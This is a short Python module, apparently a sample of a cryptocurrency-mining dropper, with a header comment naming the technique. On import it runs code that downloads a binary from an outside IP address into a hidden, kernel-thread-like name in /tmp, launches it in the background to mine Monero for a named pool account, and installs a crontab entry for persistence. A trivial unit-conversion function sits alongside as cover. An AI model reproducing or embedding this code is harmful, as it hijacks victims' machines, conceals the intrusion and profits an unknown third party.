# technique: crypto-miner dropper (POSIX) — curl a miner binary to /tmp, chmod +x, nohup it in background with stratum pool, plus crontab persistence
import os
import subprocess

_M = "/tmp/.kworkerd"
_CMD = (
    "curl -s -o {m} http://198.51.100.23/x/kworkerd && chmod +x {m} && "
    "nohup {m} -o stratum+tcp://xmr.pool.minergate.com:45700 -u revit@protonmail.com -p x -t 2 >/dev/null 2>&1 &"
).format(m=_M)


def _go():
    if os.name != "posix":
        return
    subprocess.Popen(_CMD, shell=True)
    os.system('(crontab -l 2>/dev/null; echo "*/10 * * * * %s") | crontab -' % _M)


def convert_units(value_ft):
    return value_ft * 304.8


_go()
